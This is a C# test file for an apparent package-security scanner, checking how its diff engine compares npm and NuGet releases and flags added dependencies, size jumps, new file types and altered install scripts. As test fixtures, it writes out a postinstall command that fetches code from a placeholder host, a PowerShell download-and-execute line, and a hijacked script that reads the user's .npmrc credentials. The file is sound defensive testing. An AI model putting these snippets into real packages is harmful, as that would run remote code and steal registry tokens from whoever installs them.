using PackGuard.Artifacts.Inventory;
using PackGuard.Diff;
using PackGuard.Findings;
using PackGuard.Scanning;
using PackGuard.Tests.Scanning;
using PackGuard.Tests.Support;

namespace PackGuard.Tests.Diff;

/// <summary>The diff engine beyond the rule samples: the changes it lists and the figures its findings carry.</summary>
public sealed class PackageDiffTests
{
    private const string V1 = """{"name":"acme","version":"1.0.0","license":"MIT","dependencies":{"ms":"^2.1.2","left":"1"}}""";
    private const string V2 = """{"name":"acme","version":"1.0.1","license":"MIT","dependencies":{"ms":"^2.1.3","debug":"^4"}}""";

    private static ScanResult Diff(TestFile[] old, TestFile[] @new) =>
        PackageDiff.Compare(ScanFixture.ScanTarGz(old), ScanFixture.ScanTarGz(@new));

    [Fact]
    public void Entries_are_matched_by_package_path_and_listed_as_added_removed_and_changed()
    {
        var result = Diff(
            [TestFile.Text("package/package.json", V1), TestFile.Text("package/a.js", "a"), TestFile.Text("package/same.js", "s"), TestFile.Text("package/gone.js", "g")],
            [TestFile.Text("package/package.json", V2), TestFile.Text("package/a.js", "aa"), TestFile.Text("package/same.js", "s"), TestFile.Text("package/new.js", "n")]);

        var changes = result.Comparison!.Changes;
        changes.Added.ShouldBe([new EntryChange("new.js", FileKind.Text, null, 1)]);
        changes.Removed.ShouldBe([new EntryChange("gone.js", FileKind.Text, 1, null)]);
        changes.Changed.Select(c => c.Path).ShouldBe(["a.js", "package.json"]);
        changes.Unchanged.ShouldBe(1);
        result.Comparison.Against.Version.ShouldBe("1.0.0");
        result.Target.Version.ShouldBe("1.0.1");
    }

    [Fact]
    public void A_kind_of_file_an_earlier_release_shipped_is_not_new_and_one_none_shipped_names_the_history()
    {
        const string Map = """{"version":3,"file":"index.js","sources":["src/index.ts"],"names":[],"mappings":"AAAA"}""";
        var earliest = ScanFixture.ScanTarGz([TestFile.Text("package/package.json", V1), TestFile.Text("package/index.js.map", Map)]);
        var previous = ScanFixture.ScanTarGz([TestFile.Text("package/package.json", V1)]);
        var candidate = ScanFixture.ScanTarGz([TestFile.Text("package/package.json", V2), TestFile.Text("package/index.js.map", Map), TestFile.Text("package/bin/x", "\u007fELF\u0002\u0001\u0001\u0000")]);

        var withHistory = PackageDiff.Compare(previous, candidate, [earliest.Inventory!]);
        var withoutHistory = PackageDiff.Compare(previous, candidate);

        withoutHistory.Comparison!.Changes.NewKinds.Select(k => k.Kind).ShouldContain(FileKind.SourceMap);
        withHistory.Comparison!.Changes.NewKinds.Select(k => k.Kind).ShouldNotContain(FileKind.SourceMap);
        var binary = withHistory.Findings.Single(f => f.RuleId == DiffRules.NewFileKind);
        binary.Message.ShouldEndWith("none of the previous 2 releases (acme@1.0.0 and 1 before it) shipped one.");
        binary.Properties["releasesCompared"]!.GetValue<int>().ShouldBe(2);
    }

    [Fact]
    public void A_tarball_whose_top_directory_differs_still_compares_file_by_file()
    {
        var result = Diff([TestFile.Text("package/index.js", "x")], [TestFile.Text("node/index.js", "x")]);

        result.Comparison!.Changes.Unchanged.ShouldBe(1);
        result.Findings.ShouldBeEmpty();
    }

    [Fact]
    public void Dependencies_are_listed_added_removed_and_changed_and_only_added_ones_are_findings()
    {
        var result = Diff([TestFile.Text("package/package.json", V1)], [TestFile.Text("package/package.json", V2)]);

        result.Comparison!.Changes.Dependencies.Select(d => (d.Name, d.Change)).ShouldBe([("debug", "added"), ("left", "removed"), ("ms", "changed")]);
        result.Findings.Where(f => f.RuleId == DiffRules.NewDependency).ShouldHaveSingleItem().Properties["package"]!.GetValue<string>().ShouldBe("debug");
    }

    [Fact]
    public void The_size_jump_names_the_ratio_and_the_files_that_grew_most()
    {
        var result = Diff(
            [TestFile.Text("package/package.json", V1), TestFile.Text("package/cli.js", new string('x', 1_000_000))],
            [TestFile.Text("package/package.json", V1), TestFile.Text("package/cli.js", new string('x', 1_100_000)), TestFile.Text("package/cli.js.map", new string('m', 2_000_000))]);

        var size = result.Findings.Single(f => f.RuleId == DiffRules.SizeJump);
        size.Severity.ShouldBe(Severity.Medium);
        size.Message.ShouldContain("(3.10×, +2.1 MB)");
        size.Message.ShouldContain("cli.js.map (+2.0 MB, new), cli.js (+100.0 kB)");
        result.Comparison!.Changes.Size.Ratio!.Value.ShouldBe(3.1, 0.01);
    }

    [Fact]
    public void Install_script_findings_quote_the_command_and_what_it_was()
    {
        var result = Diff(
            [TestFile.Text("package/package.json", """{"name":"acme","version":"1.0.0","scripts":{"postinstall":"node a.js"}}""")],
            [TestFile.Text("package/package.json", """{"name":"acme","version":"1.0.1","scripts":{"postinstall":"node -e \"require('https').get('https://x.example/p')\""}}""")]);

        var finding = result.Findings.Single(f => f.RuleId == DiffRules.NewInstallScript);
        finding.Severity.ShouldBe(Severity.High);
        finding.Message.ShouldStartWith("acme@1.0.1 changes its postinstall script that downloads or pipes code into an interpreter: `node -e");
        finding.Message.ShouldContain("(in acme@1.0.0 it was `node a.js`)");
        finding.Location.Path.ShouldBe("package/package.json");
    }

    [Fact]
    public void New_findings_are_matched_by_fingerprint_and_keep_their_severity_and_rule()
    {
        var map = ScanFixture.Map(("src/a.ts", "export const a = 1;"));
        var result = Diff(
            [TestFile.Text("package/package.json", ScanFixture.Proprietary), TestFile.Text("package/a.js.map", map)],
            [TestFile.Text("package/package.json", ScanFixture.Proprietary), TestFile.Text("package/a.js.map", map), TestFile.Text("package/b.js.map", map)]);

        var finding = result.Findings.Where(f => f.RuleId == DiffRules.NewFinding).ShouldHaveSingleItem();
        finding.Location.Path.ShouldBe("package/b.js.map");
        finding.Severity.ShouldBe(Severity.Critical);
        finding.Properties["ruleId"]!.GetValue<string>().ShouldBe("source-map/embedded-sources");
    }

    [Fact]
    public void Install_time_files_are_compared_by_content_and_only_unusual_changes_are_findings()
    {
        const string Nuspec = """<?xml version="1.0"?><package><metadata><id>Acme</id><version>1.0.0</version></metadata></package>""";
        var old = ScanFixture.ScanBytes(TestArchive.Zip([
            TestFile.Text("Acme.nuspec", Nuspec),
            TestFile.Text("tools/install.ps1", "param($p)\nWrite-Host 'a'\n"),
            TestFile.Text("tools/uninstall.ps1", "param($p)\n"),
            TestFile.Text("build/Acme.targets", "<Project><Target Name='T'><Exec Command='dotnet gen' /></Target></Project>"),
        ]), "acme.1.0.0.nupkg");
        var @new = ScanFixture.ScanBytes(TestArchive.Zip([
            TestFile.Text("Acme.nuspec", Nuspec.Replace("1.0.0", "1.0.1", StringComparison.Ordinal)),
            TestFile.Text("tools/install.ps1", "param($p)\nWrite-Host 'b'\n"),
            TestFile.Text("tools/init.ps1", "param($p)\niex (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')\n"),
            TestFile.Text("build/Acme.targets", "<Project><Target Name='T'><Exec Command='dotnet gen --fast' /></Target></Project>"),
        ]), "acme.1.0.1.nupkg");

        var result = PackageDiff.Compare(old, @new);

        result.Comparison!.Changes.InstallScripts.Select(c => (c.Kind, c.Path, c.Change)).ShouldBe([
            ("msbuild", "build/Acme.targets", "changed"),
            ("powershell", "tools/init.ps1", "added"),
            ("powershell", "tools/install.ps1", "changed"),
            ("powershell", "tools/uninstall.ps1", "removed"),
        ], ignoreOrder: true);
        var finding = result.Findings.Where(f => f.RuleId == DiffRules.NewInstallScript).ShouldHaveSingleItem();
        finding.Severity.ShouldBe(Severity.High);
        finding.Location.Path.ShouldBe("tools/init.ps1");
        finding.Message.ShouldContain("(install/* behaviours of the new code: downloads-and-runs)");
        result.Findings.Where(f => f.RuleId == DiffRules.NewFinding).Select(f => f.Properties["ruleId"]!.GetValue<string>())
            .ShouldBe(["install/downloads-and-runs"]);
    }

    [Fact]
    public void A_file_an_unchanged_npm_script_runs_is_compared_and_judged_by_what_it_now_does()
    {
        const string Manifest = """{"name":"acme","version":"1.0.0","scripts":{"postinstall":"node install.js"}}""";
        var routine = Diff(
            [TestFile.Text("package/package.json", Manifest), TestFile.Text("package/install.js", "require('./lib/get')('1.0.0');\n"), TestFile.Text("package/lib/get.js", "module.exports = v => v;\n")],
            [TestFile.Text("package/package.json", Manifest), TestFile.Text("package/install.js", "require('./lib/get')('1.0.1');\n"), TestFile.Text("package/lib/get.js", "module.exports = v => v;\n")]);
        var hijacked = Diff(
            [TestFile.Text("package/package.json", Manifest), TestFile.Text("package/install.js", "require('./lib/get')('1.0.0');\n"), TestFile.Text("package/lib/get.js", "module.exports = v => v;\n")],
            [TestFile.Text("package/package.json", Manifest), TestFile.Text("package/install.js", "require('./lib/get')('1.0.1');\n"), TestFile.Text("package/lib/get.js", "module.exports = v => require('fs').readFileSync(require('os').homedir() + '/.npmrc');\n")]);

        var change = routine.Comparison!.Changes.InstallScripts.ShouldHaveSingleItem();
        (change.Name, change.Kind, change.Path, change.Change, change.Fetches).ShouldBe(("postinstall", "npm-script-file", "install.js", "changed", false));
        routine.Findings.ShouldBeEmpty();
        var finding = hijacked.Findings.Single(f => f.RuleId == DiffRules.NewInstallScript);
        finding.Severity.ShouldBe(Severity.High);
        finding.Location.Path.ShouldBe("package/lib/get.js");
        finding.Message.ShouldContain("changes lib/get.js, which its unchanged postinstall script runs");
    }
}
